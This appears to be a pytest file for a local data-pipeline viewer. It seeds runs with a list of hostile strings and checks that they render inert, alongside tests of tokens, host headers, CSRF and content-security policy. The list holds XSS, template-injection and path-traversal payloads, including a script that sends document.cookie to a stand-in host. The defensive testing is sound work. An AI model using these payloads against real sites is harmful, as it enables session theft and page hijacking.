"""The viewer: pages and searches hold every row, nothing in a row acts, nobody comes in without the token, only marks are written."""

import json
import os
import re
import shutil
import signal
import socket
import string
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from contextlib import suppress
from itertools import pairwise
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import httpx
import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from playwright.sync_api import Browser

from pipeline import lineage, marks, outputs
from pipeline.audit import audit
from pipeline.commands.stages import view
from pipeline.config import load
from pipeline.files import InputError, RunError, sha256
from pipeline.marks import Mark
from pipeline.metrics import EvalRow, Rationale, Validation
from pipeline.outputs import RowWriter, manifest_digest, write_manifest
from pipeline.records import Counts, Drop, Manifest, Prediction, Row, features
from pipeline.runner import run
from pipeline.trace import FOLLOWED
from pipeline.viewer import app, rows
from pipeline.viewer.rows import START, Part, Wanted
from pipeline.viewer.story import eval_story, story
from tests.browser import DESKTOP, PHONE, Tab, chromium, faults, opened, too_wide
from tests.conftest import write_jsonl, write_project
from tests.counting import counted
from tests.rows import MADE_BY

PAYLOADS = [
    "<script>window.pwned = 1; alert(1)</script>",
    "</textarea></title></style><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    "<svg onload=alert(4)><script>alert(4)</script></svg>",
    "<svg><animate onbegin=alert(5) attributeName=x dur=1s>",
    "<iframe src='javascript:alert(6)'></iframe>",
    "<object data='data:text/html,<script>alert(7)</script>'></object>",
    "<base href='http://outside.example/'>",
    "<meta http-equiv=refresh content='0;url=http://outside.example/'>",
    "<link rel=stylesheet href=http://outside.example/a.css>",
    "<style>@import 'http://outside.example/a.css'; body{display:none}</style>",
    "<form action=http://outside.example/><input name=token><button>OK</button></form>",
    "<a href='javascript:alert(8)'>open</a>",
    "<details open ontoggle=alert(9)>",
    "<input autofocus onfocus=alert(10)>",
    "<body onload=alert(11)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(12)>",
    '" onmouseover="alert(13)" autofocus onfocus="alert(13)" x="',
    "' onclick='alert(14)' style='position:fixed;inset:0",
    "`onmouseover=alert(15)`",
    "--><script>alert(16)</script><!--",
    "]]><script>alert(17)</script><![CDATA[",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(18)')()}}",
    "[click](javascript:alert(19)) ![x](http://outside.example/x.png)",
    "# heading\n\n| a | b |\n|---|---|\n<script>alert(20)</script>",
    "javascript:alert(21)",
    "data:text/html,<script>alert(22)</script>",
    "//outside.example/%0d%0aSet-Cookie:x=1",
    "\x1b[2J\x1b[31mred\x1b[0m \x9b31m",
    "\x1b]0;title\x07\x1b]8;;http://outside.example/\x1b\\link\x1b]8;;\x1b\\",
    "\u202e\u2066evil\u2069\u202c txt.exe \u200f\u200e",
    "zero\u200bwidth\u2060joiner\ufeff\u00ad",
    "tags \U000e0041\U000e0042\U000e007f",
    "line\u2028separator\u2029paragraph\x85next\x0bvertical\x0cfeed",
    "nul\x00byte and \x08\x08\x08backspaces\rreturn",
    'json "break", \\" } ] \\u0000 \\ud800',
    "} body { background: url(http://outside.example/x) } /*",
    "&lt;script&gt;alert(23)&lt;/script&gt; &#x3c;script&#x3e; &amp;amp;",
    "\uff1cscript\uff1ealert(24)\uff1c/script\uff1e",
    "Z\u0335\u0321" + "\u0310\u0301\u0324" * 60 + "algo",
    "A" * 30_000,
    "right to left: \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 (1) [2]",
    "../../../../etc/passwd",
    "<script>fetch('http://outside.example/?'+document.cookie)</script>",
]
SETTINGS = """\
run: run
task:
  name: hostile
  inputs: inputs.jsonl
  input: "{{ text }}"
  gold: gold
  id: id
stages:
  sample: {teacher: {backend: replay, completions: completions.jsonl}, n: 2}
  judge: {teacher: {backend: replay, name: judge, completions: judgements.jsonl}, on_failure: keep}
  parse: {pattern: '(?s)(?P<rationale>.+?) So the answer is (?P<label>.+?)\\.'}
  dedup: false
  decontaminate: false
  quality: {filters: [{max_words: 3000}, {block_list: {patterns: ['(?i)javascript', 'outside']}}]}
  shard: {validation: 0.2}
  train: false
  evaluate: false
"""
HIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff\U000e0000-\U000e0fff]"
)
ACTIVE = (
    "script, iframe, object, embed, img, style, base, math, svg *:not(rect), meta[http-equiv], "
    "link:not([rel=stylesheet]):not([rel=icon])"
)


def result(folder: Path, stage: str, kept: list[Row], drops: list[Drop], kind: type[Row]) -> Path:
    """A finished result in force, with these rows."""
    key = "0" * 31 + str(len(stage))
    place = folder / stage / key
    place.mkdir(parents=True)
    reasons: dict[str, int] = {}
    written = []
    for prefix, those, size in (("part", kept, 10), (outputs.DROPPED, drops, None)):
        writer = RowWriter(place, prefix, size)
        for row in those:
            writer.write(row.line())
        written += writer.close()
    for drop in drops:
        reasons[drop.reason] = reasons.get(drop.reason, 0) + 1
    counts = Counts(
        unit="rows",
        rows_in=len(kept) + len(drops),
        kept=len(kept),
        dropped=len(drops),
        reasons=reasons,
        rows_out=len(kept),
    )
    models = {"models": sorted({row.model for row in kept if isinstance(row, Prediction)})}
    manifest = Manifest(
        stage=stage, version=1, key=key, settings={}, parents={}, identities={}, counts=counts, outputs=written,
        features=features(kind), details=models if stage == "evaluate" else {}, digest="0" * 64, **MADE_BY,
    )  # fmt: skip
    write_manifest(place, manifest.model_copy(update={"digest": manifest_digest(manifest)}))
    outputs.point(folder, stage, key)
    return place


def hostile_run(folder: Path) -> Path:
    """A run whose inputs, rationales, labels, reasons, evidence, models and eval sets are the payloads."""
    folder.mkdir()
    numbered = list(enumerate(PAYLOADS))
    write_jsonl(
        folder / "inputs.jsonl", [{"id": f"p{n}", "text": text, "gold": text, text: text} for n, text in numbered]
    )
    said = [
        {
            "id": f"p{n}",
            "completion": [
                f"Because {text} So the answer is {text}.",
                f"For {text} So the answer is {text if n % 2 else 'b'}.",
            ],
        }
        for n, text in numbered
    ]
    said[3]["completion"] = [PAYLOADS[3]] * 2  # cannot be parsed
    write_jsonl(folder / "completions.jsonl", said)
    judged = [
        {"id": f"p{n}", "completion": json.dumps({"reason": text[:500], "score": 1 + n % 5})} for n, text in numbered
    ]
    write_jsonl(folder / "judgements.jsonl", judged)
    (folder / "stages.yaml").write_text(SETTINGS)
    run(load(folder / "stages.yaml"))
    predictions = [
        Prediction(id=f"{n}/x/{n}", eval_set=f"set {text[:30]}", model=text[:60] if n % 2 else "student", row=f"p{n}",
                   input=text, gold=text, label=text, correct=bool(n % 3), text=f"It is {text}", probabilities={text: 0.75, "b": 0.25})
        for n, text in numbered
    ]  # fmt: skip
    evaluated = result(folder / "run", "evaluate", [*predictions], [], Prediction)
    thought = [Validation(model="student", row=f"q{n}", label="a", probabilities={text: 0.5}) for n, text in numbered]
    why = [
        Rationale(eval_set=one.eval_set, model=one.model, row=one.row, input=one.input, gold=one.gold, choices=None, label=one.label,
                  rationale=one.text, finished=True)
        for one in predictions
    ]  # fmt: skip
    known = [
        EvalRow(eval_set=one.eval_set, row=one.row, input=one.input, gold=one.gold, choices=None, slices={one.text: one.text},
                agreement=0.5, contaminated=[one.text])
        for one in predictions
    ]  # fmt: skip
    for name, beside in (("validation", thought), ("rationales", why), ("rows", known)):
        (evaluated / f"{name}.jsonl").write_bytes(b"".join(row.line() + b"\n" for row in beside))
    drops = [Drop(id=f"p{n}", reason=text[:200], evidence={"why": text, text[:80]: text}) for n, text in numbered]
    result(folder / "run", "balance", [], drops, Drop)
    marks.put(folder / "run", "p0", Mark(id="p0", mark="bad", note=PAYLOADS[0], stage="quality"))
    return folder / "run"


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as found:
        yield found


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, str]]:
    """The hostile run, and the address of its viewer."""
    folder = hostile_run(tmp_path_factory.mktemp("hostile") / "project")
    with app.running(folder, port=0) as address:
        yield folder, address


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The small project's settings file, after a run."""
    project = write_project(tmp_path_factory.mktemp("small") / "project")
    run(load(project))
    return project


@pytest.fixture(scope="module")
def small(made: Path) -> Iterator[tuple[Path, str]]:
    """Its run, and the address of its viewer; tests leave it as it is."""
    folder = made.parent / "runs" / "small"
    before = tree(folder)
    with app.running(folder, port=0) as address:
        yield folder, address
    assert tree(folder) == before


@pytest.fixture
def own(made: Path, tmp_path: Path) -> Path:
    """A copy of the settings file, and of the run, to write in."""
    return Path(shutil.copytree(made.parent, tmp_path / "project")) / made.name


@pytest.fixture
def own_pages(own: Path) -> Iterator[tuple[Path, str]]:
    """The copy's run, and the address of its viewer."""
    folder = own.parent / "runs" / "small"
    with app.running(folder, port=0) as address:
        yield folder, address


def tree(folder: Path) -> dict[str, str]:
    return {str(path.relative_to(folder)): sha256(path) for path in sorted(folder.rglob("*")) if path.is_file()}


def links(text: str) -> list[str]:
    return [found.replace("&amp;", "&") for found in re.findall(r'href="(/[^"]*)"', text)]


# ---------------------------------------------------------------------------------------------------------------- rows

TEXTS = st.text(
    st.sampled_from('aAbBéÉ"\\/\n\t\x00\x1b\u2028 .:{}nu0') | st.characters(exclude_categories=["Cs"]), max_size=12
)
ROWS = st.lists(
    st.fixed_dictionaries(
        {"id": TEXTS, "input": TEXTS, "label": st.none() | st.sampled_from(["a", "B", "a b", '"'])},
        optional={"columns": st.dictionaries(TEXTS, TEXTS | st.integers() | st.lists(TEXTS, max_size=2), max_size=2)},
    ),
    max_size=30,
)


def written(folder: Path, found: list[dict[str, Any]], size: int) -> list[Part]:
    parts = []
    for number, start in enumerate(range(0, max(len(found), 1), size)):
        some = found[start : start + size]
        path = folder / f"part-{number}.jsonl"
        path.write_bytes(b"".join(msgspec.json.encode(row) + b"\n" for row in some))
        parts.append(Part(path, len(some), path.stat().st_size))
    return parts


def paged(parts: list[Part], wanted: Wanted, size: int, **limits: Any) -> list[dict[str, Any] | None]:
    """All rows that fit, page after page; no page is longer than it may be, and each says how far it looked."""
    found: list[dict[str, Any] | None] = []
    at: rows.Place | None = START
    seen = set()
    while at is not None:
        assert at not in seen, "the pages do not come to an end"
        seen.add(at)
        page = rows.page(parts, rows.place(str(at), parts), wanted, size=size, **limits)
        assert len(page.rows) <= size
        assert 0 <= page.passed <= page.total
        assert all(one.row == msgspec.json.decode(one.line) for one in page.rows)
        found += [one.row for one in page.rows]
        at = page.next
    assert page.passed == page.total
    return found


def lowered(text: str) -> str:
    return "".join(character.lower() if character in string.ascii_uppercase else character for character in text)


def values(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    inner = value.values() if isinstance(value, dict) else value if isinstance(value, list) else []
    return [text for one in inner for text in values(one)]


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    found=ROWS, size=st.integers(1, 7), page=st.integers(1, 9), block=st.integers(1, 400), text=TEXTS, data=st.data()
)
def test_pages_hold_every_row_once_and_a_search_is_what_reading_all_finds(
    found: list[dict[str, Any]],
    size: int,
    page: int,
    block: int,
    text: str,
    data: st.DataObject,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(rows, "BLOCK", block)
    late = iter(range(10**9))  # a clock by which every page is out of time at once
    with tempfile.TemporaryDirectory() as folder:
        parts = written(Path(folder), found, size)
        assert paged(parts, Wanted(), page) == found
        assert paged(parts, Wanted(), page, seconds=0, clock=lambda: next(late)) == found
        somewhere = data.draw(st.sampled_from([text, *(one["input"][1:] for one in found)]))
        naive = [one for one in found if any(lowered(somewhere) in lowered(value) for value in values(one))]
        assert paged(parts, Wanted(text=somewhere), page) == (naive if somewhere else found)
        assert paged(parts, Wanted(text=somewhere), page, seconds=0, clock=lambda: next(late)) == (
            naive if somewhere else found
        )
        assert paged(parts, Wanted(label="a"), page) == [one for one in found if one["label"] == "a"]
        for number, one in enumerate(found, 1):
            place = rows.at_row(number, parts)
            assert rows.page(parts, place, Wanted(), size=1).rows[0].row == one
            assert rows.row_number(place, parts) == number


def test_filters_of_rows_are_what_reading_all_finds(tmp_path: Path) -> None:
    found = [
        {"id": f"r{n}", "label": label, "gold": gold, "agreement": agreement,
         "votes": [{"teacher": teacher, "label": label}], "judgement": None if score is None else {"score": score, "reason": "so"}}
        for n, (label, gold, agreement, teacher, score) in enumerate(
            [("a", "a", 1.0, "big", 5), ("a", "b", 0.5, "small", 1), ("b", None, 0.75, "big", None), ("A ", "a", 1.0, "small", 1)]
        )
    ]  # fmt: skip
    drops = [
        {"id": "d0", "reason": "too_short", "evidence": {"label": "a"}},
        {"id": "d1", "reason": "too_short_a", "evidence": {"reason": "too_short", "label": "b"}},
    ]
    (tmp_path / "kept").mkdir()
    kept = written(tmp_path / "kept", found, 3)
    dropped = written(tmp_path, drops, 9)

    def ids(parts: list[Part], **wanted: Any) -> list[str]:
        return [str(row["id"]) for row in paged(parts, Wanted(**wanted), 2) if row is not None]

    assert ids(kept, label="a") == ["r0", "r1"]
    assert ids(kept, teacher="small") == ["r1", "r3"]
    assert ids(kept, score=1) == ["r1", "r3"]
    assert ids(kept, differ="votes") == ["r1", "r2"]
    assert ids(kept, differ="gold") == ["r1"]
    assert ids(kept, label="a", teacher="big", score=5) == ["r0"]
    assert ids(dropped, reason="too_short") == ["d0"]
    assert ids(dropped, label="b") == ["d1"]


@pytest.mark.parametrize("text", ["", "1", "a.b", "0.3", "9.0", "0.99999", "-1.0", "0.-1", "\u0661.0", "0." + "9" * 50])
def test_a_place_where_no_row_begins_is_refused(tmp_path: Path, text: str) -> None:
    parts = written(tmp_path, [{"id": "a"}, {"id": "b"}], 5)
    with pytest.raises(InputError):
        rows.place(text, parts)


def test_a_line_that_is_no_row_is_shown_as_it_is(tmp_path: Path) -> None:
    (tmp_path / "part").write_bytes(b'{"id":"a"}\nnot json\n' + b"[" * 5000 + b"\n" + b'{"id":"b"}')
    parts = [Part(tmp_path / "part", 4, (tmp_path / "part").stat().st_size)]
    assert [row and row["id"] for row in paged_raw(parts)] == ["a", None, None, "b"]
    assert [one.row for one in rows.page(parts, START, Wanted(label="b")).rows] == []


def paged_raw(parts: list[Part]) -> list[dict[str, Any] | None]:
    return [one.row for one in rows.page(parts, START, Wanted()).rows]


# ------------------------------------------------------------------------------------------------------------- stories


def test_a_story_tells_all_that_trace_knows(small: tuple[Path, str]) -> None:
    folder, _ = small
    told = story(folder, "r0")
    assert told.text is not None and not told.lost and len(told.training) == 2
    assert [(verdict.name, verdict.said) for verdict in told.verdicts] == [
        (name, "kept") for name in ("dedup", "decontaminate", "label_in_set", "min_words")
    ]
    (answer,) = told.answers
    assert told.judgement is None and told.validated == []
    assert {name: answer.text[slice(*span)] for name, span in answer.spans.items()} == {
        "rationale": f"It speaks of {told.text.split()[0]} and more.",
        "label": "sports",
    }
    assert answer.kept and answer.vote is not None and answer.vote["label"] == "sports"
    assert answer.sent is not None and answer.sent.proven
    lost = {id: story(folder, id) for id in ("r24", "r25", "r26", "r27", "r28")}
    assert all(one.lost for one in lost.values())
    assert lost["r24"].verdicts[-1].evidence["twin"] == "r0"
    assert lost["r25"].verdicts[-1].evidence["eval_row"] == "t0"
    assert lost["r26"].answers[0].drop is not None
    assert [(v.name, v.said) for v in lost["r27"].verdicts[-2:]] == [
        ("label_in_set", "dropped"),
        ("min_words", "not asked"),
    ]
    assert [(v.name, v.said) for v in lost["r28"].verdicts[-2:]] == [("label_in_set", "kept"), ("min_words", "dropped")]
    with pytest.raises(InputError):
        story(folder, "none")


def test_a_row_of_an_eval_set_has_the_answers_of_all_models(hostile: tuple[Path, str]) -> None:
    folder, _ = hostile
    name = f"set {PAYLOADS[5][:30]}"
    told = eval_story(folder, name, "p5")
    assert [(row["row"], row["text"]) for row in told.predictions] == [("p5", f"It is {PAYLOADS[5]}")]
    assert [row["rationale"] for row in told.rationales] == [f"It is {PAYLOADS[5]}"]
    assert told.known is not None and told.known["agreement"] == 0.5
    assert [row["eval_set"] for row in story(folder, "p5").predictions] == [name]
    told = story(folder, "p6")
    assert [answer.vote and answer.vote["label"] for answer in told.answers] == [
        told.answers[0].vote and told.answers[0].vote["label"],
        "b",
    ]
    assert [answer.kept for answer in told.answers] == [True, False]
    assert (
        told.judgement is not None and told.judgement["score"] == 2 and told.judged is not None and told.judged.proven
    )
    with pytest.raises(InputError):
        eval_story(folder, name, "p6")


def test_indexes_are_made_outside_the_run(made: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = made.parent / "runs" / "small"
    before, plainly = tree(folder), story(folder, "r5")
    monkeypatch.setattr(lineage, "SMALL", 0)
    assert lineage.missing(folder, FOLLOWED) > 5
    app.make_indexes(folder, tmp_path / "indexes")
    with lineage.elsewhere(folder, tmp_path / "indexes"):
        assert lineage.missing(folder, FOLLOWED) == 0
        assert story(folder, "r5") == plainly
    assert tree(folder) == before and list((tmp_path / "indexes").rglob("*.id"))


# --------------------------------------------------------------------------------------------------------------- pages


def test_every_link_of_every_page_leads_to_a_page(small: tuple[Path, str]) -> None:
    folder, address = small
    before = tree(folder)
    waiting, seen = ["/" + address.split("/", 3)[3]], set()
    with httpx.Client(base_url=address.rsplit("/", 2)[0]) as client:
        while waiting:
            path = waiting.pop()
            if path in seen:
                continue
            seen.add(path)
            found = client.get(path)
            assert found.status_code == 200, (path, found.text)
            waiting += links(found.text)
    assert len(seen) > 30
    assert tree(folder) == before


def test_what_is_looked_for_is_found_and_counted(small: tuple[Path, str]) -> None:
    _, address = small

    def shown(path: str) -> str:
        found = httpx.get(address + path)
        assert found.status_code == 200
        return " ".join(re.sub(r"<[^>]*>", " ", found.text).split())

    assert "Rows 1 to 24 of 24" in shown("stage/quality")
    assert "Rows 20 to 24 of 24" in shown("stage/quality?row=20")
    assert "12 rows" in shown("stage/quality?label=food") and "Looked through all 24 rows" in shown(
        "stage/quality?label=food"
    )
    assert "1 row " in shown("stage/quality?rows=dropped&reason=min_words")
    assert "Nothing found" in shown("stage/quality?q=zebra")
    assert "1 row " in shown("stage/dedup?rows=dropped&q=" + quote("GOAL match"[:4]))
    assert httpx.get(address + "row?id=inputs.jsonl:3").headers["location"].endswith("/row?id=r2")


def test_keyboard_and_headings(hostile: tuple[Path, str], browser: Browser) -> None:
    _, address = hostile
    with opened(browser, address + "stage/shard") as tab:
        reached = []
        for _ in range(90):
            tab.page.keyboard.press("Tab")
            reached.append(
                tab.page.evaluate(
                    "(e => e.className + ' ' + e.id + ' ' + (e.rel || e.href || ''))(document.activeElement)"
                )
            )
        order = ["skip", "f-q", "row?id=", "next"]
        places = [next(place for place, told in enumerate(reached) if name in told) for name in order]
        assert places == sorted(places) and places[0] == 0
        tab.page.reload()
        tab.page.keyboard.press("Tab")
        tab.page.keyboard.press("Enter")
        assert tab.page.evaluate("document.activeElement.id") == "main"
        tab.page.goto(address + "row?id=p1")
        levels = tab.page.evaluate("[...document.querySelectorAll('h1,h2,h3,h4')].map(h => +h.tagName[1])")
        assert levels[0] == 1 and levels.count(1) == 1
        assert all(after - before <= 1 for before, after in pairwise(levels))
        assert tab.quiet()


def followed(tab: Tab, what: str) -> None:
    """Click it, and wait until the page that it leads to is all there."""
    with tab.page.expect_navigation(wait_until="load"):
        tab.page.click(what)


def test_a_row_is_marked_and_the_mark_changed_and_taken_away_in_the_browser(
    own_pages: tuple[Path, str], browser: Browser
) -> None:
    folder, address = own_pages
    with opened(browser, address, width=PHONE) as tab:
        followed(tab, "text=quality")
        followed(tab, "ol.rows a >> nth=0")
        tab.page.check("input[value=bad]")
        tab.page.fill("#note", "about\nanother match")
        followed(tab, "text=Mark the row")
        assert marks.read(folder / marks.FILE) == {
            "r0": Mark(id="r0", mark="bad", note="about\nanother match", stage="shard")
        }
        assert tab.page.input_value("#note") == "about\nanother match"
        tab.page.check("input[value=good]")
        followed(tab, "text=Change the mark")
        assert marks.read(folder / marks.FILE)["r0"].mark == "good"
        tab.page.goto(address + "stage/quality")
        assert tab.page.inner_text(".marked") == "marked good"
        tab.page.goto(address + "marks?kind=good")
        followed(tab, "ol.rows a")
        tab.page.check("input[value=none]")
        followed(tab, "text=Change the mark")
        assert marks.read(folder / marks.FILE) == {}
        assert tab.quiet()


# ------------------------------------------------------------------------------------------------------------- hostile


LOOK = """() => {
  const all = [...document.querySelectorAll('*')];
  return {
    pwned: window.pwned ?? null,
    active: [...document.querySelectorAll(ACTIVE)].map(e => e.outerHTML.slice(0, 200)),
    names: all.flatMap(e => [...e.attributes]).map(a => a.name),
    reached: [...document.querySelectorAll('[href],[src],[action],[formaction]')].map(e => e.href || e.src || e.action),
    text: document.body.innerText + document.title,
    heading: document.querySelector('h1').checkVisibility(),
  };
}"""


def inert(tab: Tab, address: str) -> None:
    """Nothing of a payload acts on this page, or is anything but text."""
    found = tab.page.evaluate(LOOK.replace("ACTIVE", json.dumps(ACTIVE)))
    assert found["pwned"] is None and found["active"] == [] and found["heading"]
    assert [name for name in found["names"] if name.startswith("on") or name == "style"] == []
    assert [one for one in found["reached"] if not one.startswith((address, "data:image/svg+xml,"))] == []
    assert HIDDEN.findall(found["text"]) == []
    assert tab.quiet()


@pytest.mark.parametrize("width", [PHONE, DESKTOP])
def test_nothing_hidden_in_a_row_acts(hostile: tuple[Path, str], browser: Browser, width: int) -> None:
    folder, address = hostile
    assert len(PAYLOADS) >= 40
    lists = [
        f"stage/{stage}{of}" for stage in FOLLOWED for of in ("", "?rows=dropped") if outputs.current(folder, stage)
    ]
    some = range(0 if width == PHONE else 1, len(PAYLOADS), 2)
    pages = ["", "marks", "stage/evaluate", *lists, *(f"row?id=p{n}" for n in some)]
    pages += [f"eval?set={quote(f'set {PAYLOADS[n][:30]}')}&row=p{n}" for n in list(some)[::4]]
    pages += [f"stage/parse?q={quote(PAYLOADS[n][:100])}&label={quote(PAYLOADS[n][:300])}" for n in list(some)[1::4]]
    with opened(browser, address, width=width) as tab:
        for path in pages:
            tab.page.goto(address + path)
            inert(tab, address)
            assert too_wide(tab) == 0, path


@pytest.mark.parametrize("number", range(0, len(PAYLOADS), 5))
def test_a_payload_is_shown_as_the_text_that_it_is(hostile: tuple[Path, str], browser: Browser, number: int) -> None:
    _, address = hostile
    text = PAYLOADS[number]
    told = HIDDEN.sub("", re.sub(r"\\x..|\\u....|\\U.{8}", "", text))
    with opened(browser, f"{address}row?id=p{number}") as tab:
        page = re.sub(r"\\x..|\\u....|\\U.{8}", "", tab.page.inner_text("#main"))
        assert "".join(told.split())[:15_000] in "".join(page.split())


@pytest.mark.parametrize("dark", [False, True])
def test_axe_finds_no_serious_fault(hostile: tuple[Path, str], browser: Browser, dark: bool) -> None:
    _, address = hostile
    pages = ["", "marks", "stage/quality?rows=dropped", "stage/parse?q=script", "row?id=p0", "row?id=p3",
             f"eval?set={quote('set ' + PAYLOADS[5][:30])}&row=p5", "nothing"]  # fmt: skip
    with opened(browser, address, width=PHONE if dark else DESKTOP, dark=dark) as tab:
        for path in pages:
            tab.page.goto(address + path)
            assert faults(tab) == [], path


def test_a_hostile_note_is_marked_shown_and_kept(hostile: tuple[Path, str], browser: Browser) -> None:
    folder, address = hostile
    with httpx.Client() as client:
        for number, text in enumerate(PAYLOADS):
            form = {"id": f"p{number}", "stage": "quality", "mark": "bad", "note": text[: marks.LONGEST_NOTE]}
            assert client.post(address + "mark", data=form).status_code == 303
    found = marks.read(folder / marks.FILE)
    assert [found[f"p{n}"].note for n in range(len(PAYLOADS))] == [
        text[: marks.LONGEST_NOTE].replace("\r\n", "\n").strip() for text in PAYLOADS
    ]
    assert (folder / marks.FILE).read_bytes().decode("ascii").replace("\n", "").isprintable()
    assert httpx.get(address + "marks.jsonl").content == (folder / marks.FILE).read_bytes()
    with opened(browser, address + "marks", width=PHONE) as tab:
        inert(tab, address)
        assert too_wide(tab) == 0
        tab.page.goto(address + "row?id=p1")  # the note that closes the text area
        inert(tab, address)


# ------------------------------------------------------------------------------------------------------------ security


def test_nobody_without_the_token_comes_in(small: tuple[Path, str]) -> None:
    folder, address = small
    before = tree(folder)
    home, token = address.rstrip("/").rsplit("/", 1)
    for path in (
        "/",
        "/row?id=r0",
        "/x/row?id=r0",
        f"/{token[:-1]}/",
        f"/{token}x/",
        "/style.css",
        "//",
        f"//{token}/",
        "/%00/",
    ):
        found = httpx.get(home + path)
        assert found.status_code == 403, path
        assert "r0" not in found.text and "quality" not in found.text
    assert httpx.post(f"{home}/mark", data={"id": "r0", "mark": "bad"}).status_code == 403
    assert httpx.post(f"{home}/{token[:-1]}/mark", data={"id": "r0", "mark": "bad"}).status_code == 403
    assert len(token) >= 32 and tree(folder) == before


def test_it_answers_to_its_own_name_alone(small: tuple[Path, str]) -> None:
    _, address = small
    port = urlsplit(address).port
    for host in (
        "outside.example",
        f"outside.example:{port}",
        "127.0.0.1",
        f"127.0.0.1:{(port or 0) + 1}",
        f"127.0.0.1.outside.example:{port}",
        "",
    ):
        assert httpx.get(address, headers={"host": host}).status_code in (400, 421), host
    assert httpx.get(address.replace("127.0.0.1", "localhost")).status_code == 200


def test_it_listens_on_the_loopback_interface_alone(small: tuple[Path, str]) -> None:
    _, address = small
    port = f"{urlsplit(address).port or 0:04X}"
    lines = Path("/proc/net/tcp").read_text().splitlines() + Path("/proc/net/tcp6").read_text().splitlines()
    listening = [line.split()[1] for line in lines if line.split()[3] == "0A" and line.split()[1].endswith(f":{port}")]
    assert listening == [f"0100007F:{port}"]


def test_another_site_cannot_mark_rows(small: tuple[Path, str]) -> None:
    folder, address = small
    form = {"id": "r0", "stage": "quality", "mark": "bad"}
    for site in ("cross-site", "same-site"):
        assert httpx.post(address + "mark", data=form, headers={"sec-fetch-site": site}).status_code == 403
    assert httpx.get(address + "mark", params=form).status_code == 405
    assert not (folder / marks.FILE).exists()


@pytest.mark.parametrize(
    "path",
    [
        "stage/", "stage/%2e%2e", "stage/%2e%2e/%2e%2e/etc", "stage/%2e%2e%2f%2e%2e%2fetc%2fpasswd", "stage/responses", "stage/none",
        "stage/quality%00",
        "row?id=", "row?id=../../etc/passwd", "row?id=%00", "row?id=" + "a" * 5000, "row?id=%ff%fe", "row", "eval", "nothing",
        "eval?set=../..&row=x", "stage/quality?at=0.5", "stage/quality?at=../x", "stage/quality?at=99.0", "stage/quality?row=x",
        "stage/quality?score=abc", "stage/quality?differ=wrong", "static/../app.py", "style.css/..%2fapp.py", "app.py",
    ],
)  # fmt: skip
def test_what_is_not_there_is_said_in_one_line(small: tuple[Path, str], path: str) -> None:
    _, address = small
    found = httpx.get(address + path)
    assert found.status_code == 404
    assert "Traceback" not in found.text and "root:" not in found.text and "import" not in found.text


@pytest.mark.parametrize(
    ("body", "status"),
    [
        (b"", 404), (b"id=r0", 404), (b"id=r0&mark=great", 404), (b"id=none&mark=bad", 404), (b"id=..%2Fx&mark=bad", 404),
        (b"id=r0&mark=bad&stage=..", 404), (b"id=r0%23&mark=bad", 404), (b"id=set%2Frow&mark=bad&stage=evaluate", 404),
        (b"id=r0&mark=bad&note=" + b"x" * 2001, 404), (b"id=r0&mark=bad&note=" + b"x" * 70_000, 413), (b"\xff\xfe", 404),
        (b"id=r0&mark=bad&note=%ff", 404), (b"id=r0&mark=bad&note=%ED%A0%80", 404), (b"&".join([b"a=1"] * 50), 404),
    ],
)  # fmt: skip
def test_a_mark_that_cannot_be_is_refused(small: tuple[Path, str], body: bytes, status: int) -> None:
    folder, address = small
    kind = {"content-type": "application/x-www-form-urlencoded"}
    assert httpx.post(address + "mark", content=body, headers=kind).status_code == status
    assert not (folder / marks.FILE).exists()


def test_only_the_marks_are_written(own_pages: tuple[Path, str]) -> None:
    folder, address = own_pages
    before = tree(folder)
    for path in ("", "stage/quality", "stage/quality?q=goal", "row?id=r0", "row?id=r24", "marks", "nothing"):
        httpx.get(address + path)
    httpx.post(address + "mark", data={"id": "r0", "stage": "quality", "mark": "good"})
    assert {name for name, digest in tree(folder).items() if before.get(name) != digest} == {marks.FILE}
    assert {path.name for path in folder.iterdir()} == {*(name.split("/")[0] for name in before), marks.FILE}


def test_every_answer_forbids_what_no_page_needs(small: tuple[Path, str]) -> None:
    _, address = small
    home = address.rsplit("/", 2)[0]
    for url in (address, address + "style.css", address + "nothing", home + "/", address + "marks.jsonl"):
        found = httpx.get(url).headers
        policy = dict(part.strip().split(" ", 1) for part in found["content-security-policy"].split(";"))
        assert (
            policy["default-src"] == "'none'" and "script-src" not in policy and policy["frame-ancestors"] == "'none'"
        )
        assert found["referrer-policy"] == "no-referrer" and found["x-content-type-options"] == "nosniff"
        assert "set-cookie" not in found and "server" not in found


# --------------------------------------------------------------------------------------------------------------- marks

MARKS = st.lists(
    st.builds(
        Mark,
        id=st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=8),
        mark=st.sampled_from(["good", "bad"]),
        note=st.text(st.characters(exclude_categories=["Cs"]), max_size=30),
        stage=st.none() | st.sampled_from(["quality", "evaluate"]),
    ),
    unique_by=lambda mark: mark.id,
    max_size=6,
)


@given(found=MARKS)
def test_marks_are_read_as_they_were_written(found: list[Mark]) -> None:
    with tempfile.TemporaryDirectory() as folder:
        for mark in found:
            marks.put(Path(folder), mark.id, mark)
        path = Path(folder) / marks.FILE
        assert list(marks.read(path).values()) == found
        assert not found or path.read_bytes() == marks.lines(found)
        assert {one.name for one in Path(folder).iterdir()} <= {marks.FILE}


@pytest.mark.parametrize(
    ("line", "problem"),
    [
        (b"{", "Expecting"), (b'{"id":"a"}\n', "mark"), (b'{"id":"","mark":"bad"}\n', "length"), (b"[]\n", "object"),
